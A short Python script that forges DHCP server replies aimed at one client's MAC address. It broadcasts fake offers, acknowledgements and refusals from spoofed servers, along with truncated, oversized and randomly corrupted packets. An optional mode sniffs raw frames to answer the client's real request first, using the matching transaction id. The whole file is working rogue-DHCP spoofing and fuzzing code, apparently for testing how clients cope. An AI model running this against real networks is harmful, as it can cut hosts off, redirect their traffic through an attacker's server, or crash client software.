"""
Says to a DHCP client what no server of its own would say: spoof-dhcp.py MAC ADDRESS [overhearing]
Again and again, without knowing what it asks; or, overhearing, at once when it asks everybody, with the number of its question.
"""
import random, socket, struct, sys, time

mac = bytes.fromhex(sys.argv[1].replace(":", ""))
address = socket.inet_aton(sys.argv[2])
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
out.bind(("", 67))


def reply(kind, chaddr=mac, server="192.168.11.66", xid=None, address=address):
    xid = random.randrange(2**32) if xid is None else xid
    head = struct.pack("!BBBBIHH", 2, 1, 6, 0, xid, 0, 0) + bytes(4) + address + bytes(8) + chaddr.ljust(16, b"\0")
    options = bytes([53, 1, kind, 54, 4]) + socket.inet_aton(server) + bytes([51, 4, 0, 0, 0, 9, 1, 4, 255, 255, 254, 0, 255])
    return head + bytes(192) + b"\x63\x82\x53\x63" + options


def overhear():
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    other = socket.inet_aton("192.168.10.77")
    while True:
        frame = ears.recv(2000)
        asked = frame[14 + (frame[14] & 15) * 4 + 8 :]
        if frame[6:12] != mac or len(asked) < 240 or asked[0] != 1:
            continue
        xid = struct.unpack("!I", asked[4:8])[0]
        whole = reply(5, xid=xid, address=other)
        said = [
            reply(6, xid=xid),
            whole,
            reply(5, xid=xid, server="192.168.11.2", address=other),
            whole[:-1] + (bytes([6, 255]) + bytes(255)) * 4,
            whole[:-1] + bytes([121, 200]),
            whole + bytes(900),
        ]
        for message in said:
            out.sendto(message, ("255.255.255.255", 68))


if len(sys.argv) > 3:
    overhear()
while True:
    whole = reply(5)
    said = [
        reply(6),
        reply(6, server="192.168.11.2"),
        reply(5, server="192.168.11.2"),
        reply(6, chaddr=bytes(6)),
        whole[: random.randrange(34, len(whole))],
        whole[:240] + bytes([53, 200]),
        whole[:240] + bytes(random.randrange(256) for _ in range(60)),
    ]
    for message in said:
        for to in ("255.255.255.255", sys.argv[2]):
            out.sendto(message, (to, 68))
    time.sleep(0.02)
